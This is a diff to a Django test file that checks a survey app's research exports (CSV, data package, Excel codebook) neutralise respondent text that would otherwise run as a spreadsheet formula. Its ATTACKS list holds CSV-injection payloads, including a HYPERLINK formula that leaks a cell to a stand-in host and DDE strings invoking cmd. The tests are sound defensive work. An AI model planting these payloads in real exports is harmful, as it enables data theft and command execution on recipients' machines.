@@ -1,5 +1,7 @@
 """Research exports read back: every format has every response, the labels and the codes."""
 
+import csv
+import datetime
 import io
 import json
 import zipfile
@@ -10,9 +12,9 @@ import pytest
 from openpyxl import load_workbook
 
 from ungkultur.core.models import AuditEntry
-from ungkultur.surveys import exports
-from ungkultur.surveys.models import ResearchExport
-from ungkultur.surveys.tests.results_data import NOW, a_mixed_wave, make_survey
+from ungkultur.surveys import exports, services
+from ungkultur.surveys.models import Question, ResearchExport, Section
+from ungkultur.surveys.tests.results_data import NOW, a_mixed_wave, add_responses, make_survey
 
 pytestmark = pytest.mark.django_db
 
@@ -141,3 +143,80 @@ def test_names_are_made_safe_for_spss_and_stata():
     assert exports.safe_name("moteplass_inne", taken) == "moteplass_inne_2"
     assert exports.safe_name("9tall", taken) == "v9tall"
     assert len(exports.safe_name("x" * 80, taken)) == 32
+
+
+# --- Inert exports: a respondent's text never runs as a formula in a spreadsheet ---------------
+
+ATTACKS = [
+    '=HYPERLINK("http://evil.test/?leak="&A2,"Klikk")',
+    "+1+cmd|' /C calc'!A0",
+    "-3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.fixture
+def attacked_wave(personas):
+    actor = personas.researcher
+    questionnaire = services.questionnaire_create(actor=actor, title="Angrep", now=NOW)
+    section = Section.objects.get(questionnaire=questionnaire)
+    for key in ("gender", "age", "wish"):
+        services.question_add_from_bank(actor=actor, section=section, key=key, now=NOW)
+    # The label is set before the wave opens (a frozen questionnaire's structure is cached per
+    # process, by primary key and time of freezing; the test database reuses primary keys, so
+    # this wave opens at its own time).
+    Question.objects.filter(questionnaire=questionnaire, name="onske").update(label_nb=ATTACKS[0])
+    survey = services.survey_create(
+        actor=actor, title="Angrep", questionnaire=questionnaire, now=NOW
+    )
+    wave = services.wave_create(actor=actor, survey=survey, identifier="b", title="B", now=NOW)
+    services.wave_open(actor=actor, wave=wave, now=NOW + datetime.timedelta(seconds=1))
+    for text in ATTACKS:
+        add_responses(wave, personas.arendal, 1, kjonn="1", alder=-3, onske=text)
+    return wave
+
+
+def _assert_inert_csv(data: bytes):
+    rows = list(csv.DictReader(io.StringIO(data.decode())))
+    assert [row["onske"] for row in rows] == ["'" + text for text in ATTACKS]
+    # Numbers stay numbers, written unquoted: the age -3 is not text.
+    assert {row["alder"] for row in rows} == {"-3"}
+    assert "\n" + ",".join(["1", "4203", '"2026-10-01"', "1"]) in data.decode()
+    # Text is quoted, so Excel splitting on ";" starts no cell inside it.
+    for text in ATTACKS:
+        assert ',"' + ("'" + text).replace('"', '""') + '"\n' in data.decode()
+
+
+def test_csv_makes_text_that_would_start_a_formula_inert(
+    attacked_wave, personas, django_capture_on_commit_callbacks
+):
+    _e, path = _export(
+        attacked_wave, personas.researcher, "csv", django_capture_on_commit_callbacks
+    )
+    _assert_inert_csv(path.read_bytes())
+
+
+def test_datapackage_csv_makes_text_that_would_start_a_formula_inert(
+    attacked_wave, personas, django_capture_on_commit_callbacks
+):
+    _e, path = _export(
+        attacked_wave, personas.researcher, "datapackage", django_capture_on_commit_callbacks
+    )
+    with zipfile.ZipFile(path) as bundle:
+        package = json.loads(bundle.read("datapackage.json"))
+        _assert_inert_csv(bundle.read(package["resources"][0]["path"]))
+
+
+def test_codebook_keeps_a_label_that_looks_like_a_formula_as_text(
+    attacked_wave, personas, django_capture_on_commit_callbacks
+):
+    _e, path = _export(
+        attacked_wave, personas.researcher, "codebook", django_capture_on_commit_callbacks
+    )
+    sheet = load_workbook(path)["Variabler"]
+    (label,) = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "onske"]
+    assert (label.value, label.data_type) == (ATTACKS[0], "s")
+    formulas = [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    assert formulas == []
